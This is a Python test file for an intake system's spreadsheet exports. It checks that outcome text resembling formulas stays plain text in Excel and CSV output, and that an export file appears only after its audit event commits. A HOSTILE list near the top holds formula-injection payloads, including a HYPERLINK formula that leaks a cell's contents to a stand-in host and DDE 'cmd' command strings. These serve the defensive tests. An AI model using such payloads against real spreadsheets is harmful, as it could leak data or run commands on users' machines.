"""Exports a spreadsheet cannot turn into code, and that exist only once their audit event committed."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from intake_desk.domain.enums import ApplicationStatus, ReferralStatus, Role
from intake_desk.services.actor import Actor
from intake_desk.services.context import Services
from intake_desk.services.export import ApplicationFilter, is_formula_like
from intake_desk.services.queues import ReferralFilter
from intake_desk.store.db import Database
from intake_desk.store.models import AuditEvent, Referral
from tests.conftest import add_user, make_services, setup_hall
from tests.referral_data import ensure_departments, local_at, make_application, make_referral, officer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def completed(services: Services, admin: Actor, clerk: Actor, supervisor: Actor) -> list[str]:
    """Referrals completed by the medical officer with outcomes that look like formulas."""
    ensure_departments(services)
    medical = officer(services, "yibao1", "medical", "赵医保")
    for i, outcome in enumerate(HOSTILE):
        at = local_at(date(2026, 11, 2 + i), 9, 30)
        application = make_application(services, clerk, f"张{i}", received=at, seq=i + 1,
                                       status=ApplicationStatus.UNDER_REVIEW)
        referral = make_referral(services, supervisor, application, "medical", ReferralStatus.IN_PROGRESS,
                                 due_date=date(2026, 12, 1), at=at, department_actor=medical, creator=clerk)
        services.referrals.complete(medical, referral, outcome)
    with services.db.reading() as session:  # as stored (the service trims surrounding white space)
        stored = sorted(o for o in session.scalars(select(Referral.outcome)) if o)
    assert len(stored) == len(HOSTILE) and all(is_formula_like(o) for o in stored)
    return stored


def test_formula_like_outcomes_stay_text_in_excel(services: Services, supervisor: Actor, completed: list[str],
                                                  tmp_path: Path) -> None:
    path = tmp_path / "ledger.xlsx"
    services.exports.referrals(supervisor, ReferralFilter(statuses=(ReferralStatus.COMPLETED,)), path)
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    column = header.index("办理结果/说明")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(completed), "exactly what was typed"
    for cell in cells:
        assert cell.data_type == "s", f"{cell.value!r} became a {cell.data_type!r} cell"
        assert cell.quotePrefix, "kept as text when the cell is edited"
    # Nothing in the workbook's XML is a formula.
    import zipfile

    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_formula_like_outcomes_get_an_apostrophe_in_csv(services: Services, supervisor: Actor,
                                                        completed: list[str], tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    services.exports.referrals(supervisor, ReferralFilter(statuses=(ReferralStatus.COMPLETED,)), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    outcomes = sorted(r["办理结果/说明"] for r in rows)
    assert outcomes == sorted("'" + text for text in completed)
    assert all(r["申请人"].startswith("张") for r in rows), "ordinary text is written as it is"


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"])
def test_every_formula_start_is_caught(value: str) -> None:
    assert is_formula_like(value)
    assert not is_formula_like("1=1") and not is_formula_like("张三") and not is_formula_like(-1)


# -- an export appears only after its audit event committed -----------------------------------------

def _refuse_audit(db: Database) -> None:
    """A real database failure when the export's audit event is written."""
    with db.engine.begin() as connection:
        if db.is_sqlite:
            connection.exec_driver_sql(
                "CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_events "
                "BEGIN SELECT RAISE(ABORT, 'audit refused for the test'); END")
        else:
            connection.exec_driver_sql(
                "CREATE OR REPLACE FUNCTION refuse_audit() RETURNS trigger LANGUAGE plpgsql AS "
                "$$ BEGIN RAISE EXCEPTION 'audit refused for the test'; END $$")
            connection.exec_driver_sql(
                "CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_events "
                "FOR EACH ROW EXECUTE FUNCTION refuse_audit()")


def _allow_audit(db: Database) -> None:
    with db.engine.begin() as connection:
        connection.exec_driver_sql("DROP TRIGGER IF EXISTS refuse_audit" + ("" if db.is_sqlite else " ON audit_events"))
        if not db.is_sqlite:
            connection.exec_driver_sql("DROP FUNCTION IF EXISTS refuse_audit()")


@pytest.fixture(params=["sqlite", "postgresql"])
def any_services(request: pytest.FixtureRequest, clock: object) -> Iterator[Services]:
    database = request.getfixturevalue("db" if request.param == "sqlite" else "pg_db")
    services = make_services(database, clock)  # type: ignore[arg-type]
    yield services
    _allow_audit(database)


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_no_file_when_the_audit_event_fails(any_services: Services, tmp_path: Path, suffix: str) -> None:
    services = any_services
    setup_hall(services)
    supervisor = add_user(services, "super1", Role.SUPERVISOR, "李强")
    clerk = add_user(services, "clerk1", Role.CLERK, "王丽")
    make_application(services, clerk, "张三", received=local_at(date(2026, 11, 2)))
    with services.db.reading() as session:
        before = session.scalar(select(func.count()).select_from(AuditEvent))
    _refuse_audit(services.db)
    out = tmp_path / "exports"
    out.mkdir()
    path = out / f"full.{suffix}"
    with pytest.raises(Exception, match="audit refused"):
        services.exports.applications(supervisor, ApplicationFilter(), path, full_ids=True)
    assert sorted(os.listdir(out)) == [], "neither the export nor its temporary file is left"
    with services.db.reading() as session:
        assert session.scalar(select(func.count()).select_from(AuditEvent)) == before
    _allow_audit(services.db)
    result = services.exports.applications(supervisor, ApplicationFilter(), path, full_ids=True)
    assert result.rows == 1 and sorted(os.listdir(out)) == [path.name]
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with services.db.reading() as session:
        assert session.scalar(select(func.count()).select_from(AuditEvent)
                              .where(AuditEvent.action == "export.applications")) == 1
